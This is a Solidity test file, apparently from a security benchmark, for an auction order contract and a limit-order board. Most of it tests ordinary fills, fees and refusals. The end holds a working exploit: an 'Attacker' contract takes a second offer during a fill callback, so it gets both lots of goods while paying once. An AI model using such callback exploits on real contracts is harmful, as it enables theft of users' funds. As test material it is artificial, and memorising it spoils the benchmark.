// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-a69af9e2-8c18-4ded-b611-642faecd76ff

import "./WainOrders.sol";
import "./context/LimitBoard.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Goods is IERC20 {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 value) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += value;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        return true;
    }
}

contract Customer {
    WainOrders private house;
    LimitBoard private board;

    constructor(WainOrders house_, LimitBoard board_) {
        house = house_;
        board = board_;
    }

    function post(Goods give, uint128 amount, IERC20 want, uint128 start, uint128 least, uint16 share)
        external
        returns (uint256)
    {
        give.approve(address(house), amount);
        return house.post(give, amount, want, start, least, 10 days, share);
    }

    function cancel(uint256 id) external {
        house.cancel(id);
    }

    function place(Goods give, uint256 amount, IERC20 want, uint256 price) external returns (uint256) {
        give.approve(address(board), amount);
        return board.place(give, amount, want, price);
    }
}

/// Pays out of its own stock, as much as it is told to.
contract HonestFiller is IFiller {
    function onFill(uint256, IERC20, uint256, IERC20 want, uint256, address payee, bytes calldata data) external {
        want.transfer(payee, abi.decode(data, (uint256)));
    }
}

/// Tries to do something else in the middle of a fill, and insists on being told to wait.
contract Meddler is IFiller {
    function onFill(uint256, IERC20, uint256, IERC20 want, uint256 wanted, address payee, bytes calldata data) external {
        (bool ok, bytes memory why) = msg.sender.call(data);
        require(!ok && bytes4(why) == WainOrders.Busy.selector, "let through");
        want.transfer(payee, wanted);
    }
}

/// A token that takes what it is given, and gives nothing back.
contract Sieve is IERC20 {
    bool public takes;

    function open() external {
        takes = true;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external view returns (bool) {
        return takes;
    }
}

/// Pays for one thing only.
contract Attacker is IFiller {
    LimitBoard private board;
    uint256 private offer;

    function run(WainOrders house, uint256 id, LimitBoard board_, uint256 offer_, Goods cash) external {
        board = board_;
        offer = offer_;
        cash.approve(address(board_), type(uint256).max);
        house.fill(id, this, "");
    }

    function onFill(uint256, IERC20, uint256, IERC20, uint256, address, bytes calldata) external {
        board.take(offer);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_773_500_000;

    Goods public wool;
    Goods public cash;
    WainOrders public house;
    LimitBoard public board;
    Customer public una;
    HonestFiller public filler;
    Attacker public magpie;
    uint256 public order;
    uint256 public offer;

    function setUp() public {
        vm.warp(START);
        wool = new Goods();
        cash = new Goods();
        house = new WainOrders(address(this));
        board = new LimitBoard();
        una = new Customer(house, board);
        filler = new HonestFiller();
        magpie = new Attacker();
        wool.mint(address(una), 30_000e18);
        order = una.post(wool, 10_000e18, cash, 11_000e18, 9_000e18, 0);
        offer = una.place(wool, 10_000e18, cash, 10_000e18);
        cash.mint(address(magpie), 10_000e18);
        cash.mint(address(filler), 100_000e18);
        vm.warp(START + 5 days);
    }

    // Wool and cash, at par, of the customer and of what it has left in either place.
    function customersWorth() public view returns (uint256 sum) {
        sum = wool.balanceOf(address(una)) + cash.balanceOf(address(una));
        sum += wool.balanceOf(address(house)) + wool.balanceOf(address(board));
    }

    function test_Regular() public {
        require(house.wantedNow(order) == 10_000e18, "half-way");
        try house.fill(order, filler, abi.encode(9_999e18)) returns (uint256) {
            revert("paid too little");
        } catch {}
        require(house.fill(order, filler, abi.encode(10_100e18)) == 10_100e18, "filled");
        require(cash.balanceOf(address(una)) == 10_100e18, "paid in full");
        require(wool.balanceOf(address(filler)) == 10_000e18, "goods are with the filler");
        try house.fill(order, filler, abi.encode(10_100e18)) returns (uint256) {
            revert("filled twice");
        } catch {}

        // An order that leaves half of the surplus to the house.
        uint256 second = una.post(wool, 5_000e18, cash, 5_000e18, 4_000e18, 5_000);
        house.fill(second, filler, abi.encode(5_000e18));
        require(cash.balanceOf(address(una)) == 14_600e18 && house.houseDue(cash) == 500e18, "surplus is shared");
        require(house.payHouse(cash) == 500e18 && cash.balanceOf(address(this)) == 500e18, "house is paid");

        // Cancelled, and expired.
        uint256 third = una.post(wool, 5_000e18, cash, 5_000e18, 4_000e18, 0);
        try house.cancel(third) {
            revert("not the owner");
        } catch {}
        vm.warp(START + 20 days);
        try house.fill(third, filler, abi.encode(5_000e18)) returns (uint256) {
            revert("expired");
        } catch {}
        una.cancel(third);
        require(wool.balanceOf(address(una)) == 5_000e18, "given back");

        cash.mint(address(this), 10_000e18);
        cash.approve(address(board), 10_000e18);
        board.take(offer);
        require(wool.balanceOf(address(this)) == 10_000e18, "offer taken");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesTwoThingsAtOnce() public {
        Meddler meddler = new Meddler();
        cash.mint(address(meddler), 10_000e18);
        bytes[4] memory calls = [
            abi.encodeCall(house.post, (wool, 1, cash, 1, 1, 1 days, 0)),
            abi.encodeCall(house.cancel, (order)),
            abi.encodeCall(house.fill, (order, filler, "")),
            abi.encodeCall(house.payHouse, (cash))
        ];
        for (uint256 i = 0; i < calls.length; ++i) {
            uint256 id = una.post(wool, 1_000e18, cash, 1_000e18, 1_000e18, 0);
            require(house.fill(id, meddler, calls[i]) == 1_000e18, "filled all the same");
        }
    }

    function _refusesTerms(IERC20 want, uint128 amount, uint128 start, uint128 least, uint64 life, uint16 share) private {
        vm.expectRevert(WainOrders.BadTerms.selector);
        house.post(wool, amount, want, start, least, life, share);
    }

    function test_RefusesTerms() public {
        _refusesTerms(wool, 1, 2, 1, 1 days, 0);
        _refusesTerms(cash, 0, 2, 1, 1 days, 0);
        _refusesTerms(cash, 1, 2, 0, 1 days, 0);
        _refusesTerms(cash, 1, 1, 2, 1 days, 0);
        _refusesTerms(cash, 1, 2, 1, 0, 0);
        _refusesTerms(cash, 1, 2, 1, 60 days + 1, 0);
        _refusesTerms(cash, 1, 2, 1, 1 days, 10_001);
    }

    function test_RefusesUnknownOrders() public {
        vm.expectRevert(abi.encodeWithSelector(WainOrders.NoSuchOrder.selector, 99));
        house.wantedNow(99);
    }

    function test_RefusesTokensThatDoNotMove() public {
        Sieve sieve = new Sieve();
        vm.expectRevert(WainOrders.TransferFailed.selector);
        house.post(sieve, 1, cash, 1, 1, 1 days, 0);
        sieve.open();
        uint256 id = house.post(sieve, 1, cash, 1, 1, 1 days, 0);
        vm.expectRevert(WainOrders.TransferFailed.selector);
        house.cancel(id);
    }

    function exploit() public {
        magpie.run(house, order, board, offer, cash);
    }

    function test_Exploit() public {
        uint256 before = customersWorth();
        exploit();
        require(customersWorth() + 9_000e18 <= before, "paid for both");
        require(wool.balanceOf(address(magpie)) == 20_000e18, "goods of both");
    }

    function target() public view returns (address) {
        return address(house);
    }

    function attacker() public view returns (address) {
        return address(magpie);
    }
}
